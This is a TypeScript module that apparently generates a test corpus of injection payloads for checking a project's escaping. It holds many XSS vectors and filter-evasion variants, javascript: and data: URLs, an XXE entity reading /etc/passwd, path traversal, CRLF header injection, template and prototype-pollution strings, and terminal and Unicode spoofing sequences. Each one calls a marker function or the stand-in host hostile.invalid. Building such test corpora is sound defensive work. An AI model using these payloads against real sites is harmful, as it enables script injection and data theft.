/** Texts that do harm where they are taken for markup, script, style or an address; written for this project. */

/** A host that is never there: a request for it is a leak. */
export const HOSTILE_HOST = "hostile.invalid";

/** Ways to run `js`, or to ask the hostile host for something, once markup is believed. */
const VECTORS: readonly ((js: string, url: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (_, url) => `<script src=${url}.js></script>`,
  (js) => `<img src=x onerror="${js}">`,
  (_, url) => `<img src="${url}.png" alt=x>`,
  (_, url) => `<img srcset="${url}.png 1x">`,
  (_, url) => `<picture><source srcset="${url}.webp"><img alt=x></picture>`,
  (js) => `<svg onload="${js}"></svg>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  (_, url) => `<svg><image href="${url}.svg" /></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text>go</text></a></svg>`,
  (js) => `<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>"></iframe></foreignObject></svg>`,
  (js) => `<math><mtext></mtext><mglyph><style></math><img src=x onerror="${js}">`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (_, url) => `<iframe src="${url}.html"></iframe>`,
  (_, url) => `<object data="${url}.swf"></object>`,
  (_, url) => `<embed src="${url}.swf">`,
  (_, url) => `<link rel=stylesheet href="${url}.css">`,
  (_, url) => `<link rel=prefetch href="${url}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (_, url) => `<base href="${url}/">`,
  (js) => `<form action="javascript:${js}"><button autofocus>go</button></form>`,
  (js) => `<button formaction="javascript:${js}">go</button>`,
  (js) => `<input onfocus="${js}" autofocus>`,
  (_, url) => `<input type=image src="${url}.png">`,
  (js) => `<select onfocus="${js}" autofocus></select>`,
  (js) => `<textarea onfocus="${js}" autofocus></textarea>`,
  (js) => `<video><source onerror="${js}"></video>`,
  (_, url) => `<video poster="${url}.png" src="${url}.mp4"></video>`,
  (js) => `<audio src=x onerror="${js}"></audio>`,
  (js) => `<details open ontoggle="${js}"><summary>x</summary></details>`,
  (js) => `<body onload="${js}">`,
  (js) => `<p style="animation-name:x" onanimationstart="${js}">x</p>`,
  (_, url) => `<style>@import url(${url}.css);</style>`,
  (_, url) => `<style>*{background:url(${url}.png)}</style>`,
  (_, url) => `<p style="background:url(${url}.png)">x</p>`,
  (_, url) => `<table background="${url}.png"><tr><td>x</table>`,
  (js) => `<a href="javascript:${js}" id=go>go</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">go</a>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  (js) => `<title><p title="</title><img src=x onerror=${js}>">`,
  (js) => `<template shadowrootmode=open><img src=x onerror="${js}"></template>`,
  (js) => `<form id=forms><input name=attributes><input name=children></form><img src=x onerror="${js}">`,
  (js) => `<img name=currentScript id=location src=x onerror="${js}">`,
  (js) => `<x contenteditable onbeforeinput="${js}" onpointerover="${js}">x</x>`,
];

/** Ways to write markup that a filter which searches for it does not see, or that ends what it stands in. */
const WRITINGS: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.toUpperCase().replaceAll("HOSTILE(", "hostile("),
  (markup) => markup.replace(/^<(\w+) /, "<$1\n/\t"),
  (markup) => `<<${markup.slice(1)}`,
  (markup) => markup.replace(/>$/, ""),
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `--></script></style></title></textarea>${markup}`,
  (markup) => `]]>\`}}${markup}`,
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => markup.replaceAll("<", "&#x3c;").replaceAll('"', "&quot;"),
  (markup) => `\\${markup.replaceAll(">", "\\>")}`,
];

/** Addresses that run or leak where they become a link or a picture. */
const ADDRESSES: readonly ((js: string, host: string) => string)[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => ` \u0001javascript:${js}`,
  (js) => `javascript&colon;${js}`,
  (js) => `&#106;avascript:${js}`,
  (js) => `javascript://example.org/%0a${js}`,
  (js) => `vbscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:image/svg+xml,<svg onload="${js}" xmlns="http://www.w3.org/2000/svg"/>`,
  (_, host) => `//${host}/x.png`,
  (_, host) => `\\\\${host}\\x.png`,
  (_, host) => `/\\${host}/x.png`,
  (_, host) => `https:${host}/x.png`,
  (_, host) => `https://example.org@${host}/x.png`,
  (js) => `blob:null/${js}`,
  () => "file:///etc/passwd",
  () => "../../../../etc/passwd",
  () => "https://",
  () => "http://[::1",
];

/** What does harm in a script, a feed, JSON, a terminal, a file name, a lookup or a line. */
const OTHERS: readonly ((js: string) => string)[] = [
  (js) => `</script><script>${js}</script>`,
  (js) => `"};${js};//`,
  (js) => `';${js};'`,
  (js) => `\u2028${js}\u2029`,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `<%= ${js} %>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  (js) => `<?xml-stylesheet href="javascript:${js}"?>`,
  () => `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;`,
  (js) => `]]></title><script>${js}</script><![CDATA[`,
  (js) => `import x from "data:text/javascript,${js}"`,
  (js) => `self.__next_f.push([1,"${js}"])`,
  () => "__proto__",
  () => "constructor",
  () => "toString",
  () => "con",
  () => ".well-known",
  () => "..",
  () => "\u001b]0;owned\u0007\u001b[2J",
  () => "\u009b31m",
  () => "\r\nSet-Cookie: a=b",
  () => "a\u0000b",
  () => "\u202etxt.exe",
  () => "\u2066\u2067\u202d",
  () => "раypal",
  () => `z${"\u0335".repeat(500)}`,
  () => "x".repeat(300),
  () => "書".repeat(300),
  () => "=HYPERLINK(1)",
  () => "%00%0d%0a%2e%2e%2f",
  () => "#%",
  () => "?w=喆&q=%",
  () => "\ud800",
  () => "\ufeff\u200b\u2060",
  () => "*a: &a [*a]",
  () => "!!js/function 'x'",
];

/** A text that means harm. */
export interface Payload {
  readonly text: string;
  /** What the function `hostile` is called with if it runs. */
  readonly number: number;
}

/** All of them, each with a number of its own. */
export function hostilePayloads(): readonly Payload[] {
  const texts: ((js: string, number: number) => string)[] = [
    ...VECTORS.flatMap((vector) =>
      WRITINGS.map((write) => (js: string, number: number) => write(vector(js, `//${HOSTILE_HOST}/${number}`))),
    ),
    ...ADDRESSES.map((address) => (js: string) => address(js, HOSTILE_HOST)),
    ...OTHERS,
  ];
  return texts.map((text, number) => ({ text: text(`hostile(${number})`, number), number }));
}
